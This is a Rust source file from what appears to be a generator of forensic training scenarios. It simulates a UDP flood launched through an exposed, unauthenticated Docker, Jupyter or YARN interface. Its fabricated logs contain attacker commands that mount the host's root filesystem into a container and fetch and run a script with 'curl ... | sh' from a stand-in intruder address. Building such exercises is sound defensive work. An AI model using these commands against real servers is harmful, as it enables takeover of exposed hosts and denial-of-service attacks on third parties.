//! A management interface without authentication is open to the world: Docker's, a notebook's or a cluster's. A stranger starts
//! a workload of his own, which floods somebody else with UDP.

use abate_model::truth::Attacker;
use abate_model::{Category, CauseKind, Factor, Text, Verdict};

use super::Scenario;
use crate::clock::{self, DAY, HOUR, Second, Zone};
use crate::flow::{Connection, Form, TCP, UDP};
use crate::folder::{Frame, Record};
use crate::hostlog::Logger;
use crate::inventory;
use crate::noise;
use crate::report::{self, Report, accusation};
use crate::rng::Rng;
use crate::scatter::Scattered;
use crate::stage::{Outcome, Stage};
use crate::world::{Host, World};

pub(super) static SCENARIO: Scenario = Scenario {
    id: "open-api-flood",
    title: Text::fixed("UDP flood from a container started by a stranger", "第三者が起動したコンテナからの UDP フラッド"),
    summary: Text::fixed(
        "The interface of Docker, of a notebook server or of a cluster was open to the Internet without authentication. A stranger starts a workload there, and it floods somebody else.",
        "Docker・ノートブック・クラスターの管理インターフェイスが認証なしで公開されています。第三者がそこで処理を起動し、外部に UDP フラッドを送り付けます。",
    ),
    build,
};

const HOURS: (i64, i64) = (5, 10);

/// What was open.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Service {
    #[default]
    Docker,
    Notebook,
    Cluster,
}

impl Service {
    fn port(self) -> u16 {
        match self {
            Self::Docker => 2375,
            Self::Notebook => 8888,
            Self::Cluster => 8088,
        }
    }
}

struct Plot {
    service: Service,
    host: Host,
    logger: Logger,
    /// first and last second of the flood
    flood: (Second, Second),
    victim: String,
    /// port at the victim
    port: i64,
    /// packets a second
    rate: i64,
}

fn build(stage: &mut Stage) -> Outcome {
    let host = super::public_host(stage);
    let victim = stage.world.take_address(&mut stage.attack);
    let (rng, start) = (&mut stage.attack, stage.world.incident);
    let begin = start + rng.range(10, 200) * 60;
    let plot = Plot {
        service: rng.pick(&[Service::Docker, Service::Docker, Service::Notebook, Service::Cluster]),
        logger: Logger::draw(rng, &host),
        flood: (begin, begin + rng.pick(&[60_i64, 180, 600, 1500])),
        victim,
        port: rng.pick(&[80_i64, 53, 443, 27_015, 3074]),
        rate: rng.range(4_000, 60_000),
        host,
    };
    stage.world.flow_form = if rng.chance(35) { Form::Custom } else { Form::Version2 };
    stage.world.open_ports.push((plot.host.private.clone(), i64::from(plot.service.port())));
    let world = stage.world.clone();

    let mut calls = vec![super::opens_innocently(&world, &mut stage.attack, start - 40 * HOUR)];
    if stage.attack.chance(60) {
        let at = start - stage.attack.range(6 * HOUR, 44 * HOUR);
        let opened = super::opens(&world, &mut stage.attack, &plot.host, "tcp", plot.service.port(), at);
        calls.push(opened.because("the management interface is opened to the whole Internet"));
    }
    super::trail(stage, super::NO_BUILDS, calls);
    if stage.attack.chance(80) {
        service_log(stage, &plot);
    }
    if stage.attack.chance(50) {
        let mistyped = plot.logger.mistyped(&world, &mut stage.attack, start - 2 * HOUR);
        let ordinary = plot.logger.auth_days(90_u32.saturating_mul(stage.scales.hosts), (start - 24 * HOUR, start + 9 * HOUR));
        stage.log(format!("evidence/{}/auth.log", plot.host.name), Frame::LINES, ordinary, mistyped);
    }
    stage.parts.extend(plot.logger.clue(plot.host.name, start + DAY));

    let mut flows = way_in(&world, &mut stage.attack, &plot);
    flows.extend(flood(&world, &mut stage.attack, &plot));
    flows.extend(noise::draw(&world, &mut stage.attack, &plot.host, HOURS, &[], 4));
    let rules = super::rules(&world, &plot.host, vec![inventory::rule("tcp", plot.service.port(), "0.0.0.0/0")]);
    super::flows_with(stage, HOURS, flows, &rules);

    let notice = notice(&world, &mut stage.attack, &plot);
    let outcome = Outcome::new(Category::Dos, CauseKind::UnauthenticatedService, Factor::Misconfiguration, Verdict::Confirmed, notice);
    let addresses = vec![world.intruder(0).to_owned(), world.intruder(1).to_owned()];
    Outcome { attacker: Attacker { addresses, principals: Vec::new() }, ..outcome }
}

/// What the service itself writes.
fn service_log(stage: &mut Stage, plot: &Plot) {
    let (world, start, zone, name) = (stage.world.clone(), stage.world.incident, plot.logger.zone(), plot.host.name);
    let (span, count) = ((start - 24 * HOUR, start + 9 * HOUR), 120_u32.saturating_mul(stage.scales.hosts));
    let rng = &mut stage.attack;
    let (file, ordinary, attack) = match plot.service {
        Service::Docker => {
            let logger = plot.logger.clone();
            let ordinary = Scattered::boxed(count, span, move |_, rng, at| vec![docker(&logger, at, docker_day(rng).as_str())]);
            ("docker.log", ordinary, docker_attack(&world, rng, plot))
        }
        Service::Notebook => {
            let ordinary = Scattered::boxed(count, span, move |world, rng, at| {
                let (from, what) = match rng.range(0, 3) {
                    0 => (rng.stranger().to_string(), "302 GET /"),
                    1 => (rng.stranger().to_string(), "404 GET /.env"),
                    2 => (world.office.clone(), "200 GET /api/contents?content=1"),
                    _ => (world.office.clone(), "204 PUT /api/contents/forecast.ipynb"),
                };
                vec![notebook(
                    zone,
                    at,
                    &format!(
                        "{what} ({}@{from}) {}.{:02}ms",
                        if from == world.office { "sato" } else { "" },
                        rng.range(0, 40),
                        rng.range(0, 99)
                    ),
                )]
            });
            ("jupyter.log", ordinary, notebook_attack(&world, rng, plot))
        }
        Service::Cluster => {
            let ordinary = Scattered::boxed(count, span, move |_, rng, at| {
                vec![match rng.range(0, 1) {
                    0 => cluster(zone, at, "nodelabels.NodeLabelsStore: Saved label state"),
                    _ => cluster(
                        zone,
                        at,
                        &format!("scheduler.AbstractYarnScheduler: Release request cache is cleaned up in {}ms", rng.range(1, 9)),
                    ),
                }]
            });
            ("yarn-resourcemanager.log", ordinary, cluster_attack(&world, rng, plot))
        }
    };
    stage.log(format!("evidence/{name}/{file}"), Frame::LINES, ordinary, attack);
}

/// A message of the daemon; it runs with debug messages on.
fn docker(logger: &Logger, at: Second, rest: &str) -> Record {
    let time = format!("{}.{:06}817Z", Zone::UTC.show(at, "%Y-%m-%dT%H:%M:%S"), clock::fraction(at));
    logger.line(at, "dockerd[914]", &format!("time=\"{time}\" level={rest}"))
}

fn docker_day(rng: &mut Rng) -> String {
    match rng.range(0, 4) {
        0 => format!(
            "info msg=\"ignoring event\" container={} module=libcontainerd namespace=moby topic=/tasks/delete type=\"*events.TaskDelete\"",
            rng.hex(64)
        ),
        1 => "debug msg=\"Calling GET /v1.51/containers/json\"".to_owned(),
        2 => "debug msg=\"Calling HEAD /_ping\"".to_owned(),
        3 => format!("debug msg=\"Health check for container {} done (exitCode=0)\"", rng.hex(64)),
        _ => "debug msg=\"Calling GET /v1.51/info\"".to_owned(),
    }
}

fn docker_attack(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (start, id) = (world.incident, rng.hex(64));
    let image = rng.pick(&["alpine", "ubuntu", "busybox"]);
    let say = |at, message: String| docker(&plot.logger, at, &format!("debug msg=\"{message}\""));
    let fetched = format!("curl -s http://{}/d.sh|sh", world.intruder(1));
    let form = format!(
        "form data: {{\\\"Cmd\\\":[\\\"chroot\\\",\\\"/mnt\\\",\\\"/bin/sh\\\",\\\"-c\\\",\\\"{fetched}\\\"],\\\"HostConfig\\\":{{\\\"Binds\\\":[\\\"/:/mnt\\\"]}},\\\"Image\\\":\\\"{image}\\\"}}"
    );
    let ours = "form data: {\\\"HostConfig\\\":{\\\"RestartPolicy\\\":{\\\"Name\\\":\\\"always\\\"}},\\\"Image\\\":\\\"registry.example.com/app:stable\\\"}";
    vec![
        say(start, "Calling GET /v1.24/version".to_owned()),
        say(start + 2, format!("Calling POST /v1.24/images/create?fromImage={image}&tag=latest")),
        say(start + 9, "Calling POST /v1.24/containers/create".to_owned()),
        say(start + 9, form).because("a stranger makes a container that has the whole disk and fetches a script"),
        say(start + 10, format!("Calling POST /v1.24/containers/{id}/start")).because("the container is started"),
        say(start - 3 * HOUR, "Calling POST /v1.51/containers/create".to_owned()).aside(),
        say(start - 3 * HOUR, ours.to_owned()).decoy("the build server starts the new version of the application"),
    ]
}

fn notebook(zone: Zone, at: Second, message: &str) -> Record {
    Record::plain(at, format!("[I {}.{:03} ServerApp] {message}", zone.show(at, "%Y-%m-%d %H:%M:%S"), clock::fraction(at) / 1000))
}

fn notebook_attack(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (start, from, zone, kernel) = (world.incident, world.intruder(0), plot.logger.zone(), rng.uuid());
    vec![
        notebook(zone, start - 4, &format!("200 GET /tree? (@{from}) 3.11ms")),
        notebook(zone, start, "New terminal with automatic name: 1")
            .because("somebody without a password opens a terminal in the notebook server"),
        notebook(zone, start + 1, &format!("101 GET /terminals/websocket/1 (@{from}) 4.07ms")).because("the terminal is the stranger's"),
        notebook(zone, start - 6 * HOUR, &format!("Kernel started: {kernel}")).decoy("a colleague's notebook"),
        notebook(zone, start - 6 * HOUR + 2, &format!("101 GET /api/kernels/{kernel}/channels (sato@{}) 2.81ms", world.office)).aside(),
    ]
}

fn cluster(zone: Zone, at: Second, message: &str) -> Record {
    let text = format!(
        "{},{:03} INFO org.apache.hadoop.yarn.server.resourcemanager.{message}",
        zone.show(at, "%Y-%m-%d %H:%M:%S"),
        clock::fraction(at) / 1000
    );
    Record::plain(at, text)
}

fn cluster_attack(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (start, from, zone) = (world.incident, world.intruder(0), plot.logger.zone());
    let application = |n: i64| format!("application_{}_{n:04}", (start - 9 * DAY) * 1000 + 417);
    let (job, theirs) = (application(rng.range(20, 60)), application(rng.range(70, 99)));
    let submitted = |user: &str, from: &str, id: &str| {
        format!(
            "RMAuditLogger: USER={user}\tIP={from}\tOPERATION=Submit Application Request\tTARGET=ClientRMService\tRESULT=SUCCESS\tAPPID={id}\tQUEUENAME=default"
        )
    };
    vec![
        cluster(zone, start - 4 * HOUR, &submitted("etl", &world.batch.private, &job)).decoy("the nightly job of the company"),
        cluster(zone, start, &submitted("dr.who", from, &theirs))
            .because("an application comes in from the Internet, under the name of nobody"),
        cluster(zone, start + 3, &format!("rmapp.RMAppImpl: {theirs} State change from ACCEPTED to RUNNING on event = ATTEMPT_REGISTERED")),
        cluster(
            zone,
            start + 4,
            &format!(
                "amlauncher.AMLauncher: Command to launch container for ApplicationMaster {theirs}: curl http://{}/d.sh|sh",
                world.intruder(1)
            ),
        )
        .because("the application fetches a script and runs it"),
    ]
}

/// Those who look at the port, the one who uses it, and the script.
fn way_in(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (host, start) = (&plot.host, world.incident);
    let server = (host.private.as_str(), i64::from(plot.service.port()));
    let mut flows = Vec::new();
    for _ in 0..rng.range(6, 12) {
        let (other, at) = (rng.stranger().to_string(), start + rng.range(-4 * HOUR, 8 * HOUR));
        let client = (other.as_str(), rng.range(40_000, 60_000));
        let glance = Connection { host, client, server, protocol: TCP, at, seconds: 1, there: (6, 402), back: (5, rng.range(380, 2_900)) };
        flows.extend(glance.lines(world).into_iter().map(|record| record.decoy("a stranger looks at the interface and does no harm")));
    }
    let client = (world.intruder(0), 41_022);
    let used = Connection { host, client, server, protocol: TCP, at: start - 4, seconds: 20, there: (38, 6_911), back: (31, 9_120) };
    flows.extend(used.because(world, "the stranger gives his orders"));
    let client = (host.private.as_str(), rng.range(40_000, 60_000));
    let fetched = Connection {
        host,
        client,
        server: (world.intruder(1), 80),
        protocol: TCP,
        at: start + 13,
        seconds: 3,
        there: (60, 3_400),
        back: (141, 190_311),
    };
    flows.extend(fetched.because(world, "the host fetches the stranger's script"));
    flows
}

/// One record a minute, in each direction if the victim answers at all.
fn flood(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (from, to) = plot.flood;
    let (size, client) = (rng.range(500, 1_400), (plot.host.private.as_str(), rng.range(1_024, 65_000)));
    let mut flows = Vec::new();
    for at in (from..to).step_by(60) {
        let packets = plot.rate * 60;
        let there = (packets, packets * size);
        let flow =
            Connection { host: &plot.host, client, server: (&plot.victim, plot.port), protocol: UDP, at, seconds: 59, there, back: (0, 0) };
        flows.extend(if at == from { flow.because(world, "the flood begins") } else { flow.lines(world) });
    }
    flows
}

/// A report of AWS's own, or one of the victim.
fn notice(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<u8> {
    let ((from, to), host, seconds) = (plot.flood, &plot.host, plot.flood.1 - plot.flood.0);
    let own = rng.chance(55);
    let fields = if own {
        vec![
            "To assist you, we have taken the following actions:".to_owned(),
            "Instance Id          Remote IP        Port   Protocol  Action Taken".to_owned(),
            format!("{}  {}  {}  17  Outgoing port {} blocked", host.instance, plot.victim, plot.port, plot.port),
            String::new(),
            "Details of the abusive activity:".to_owned(),
            format!("Instance Id: {}", host.instance),
            format!("Report begin time: {}", clock::plain(from)),
            format!("Report end time: {}", clock::plain(to)),
            "Protocol: UDP".to_owned(),
            format!("Remote IP: {}", plot.victim),
            format!("Remote port(s): {}", plot.port),
            format!("Total packets sent: {}", plot.rate * seconds),
            "Total packets received: 0".to_owned(),
        ]
    } else {
        Vec::new()
    };
    let mut excerpt = vec![report::opening(rng), String::new()];
    excerpt.extend((0..4).map(|n| {
        format!(
            "{} {} -> {}:{} UDP, {} packets/s",
            clock::iso(from + n * (seconds / 5)),
            host.public,
            plot.victim,
            plot.port,
            plot.rate - rng.range(0, 900)
        )
    }));
    let (at, resource) = (from, report::instance(host));
    report::write(world, rng, &Report { resource, accusation: accusation::DOS, activity: Some("Denial of Service"), at, fields, excerpt })
}
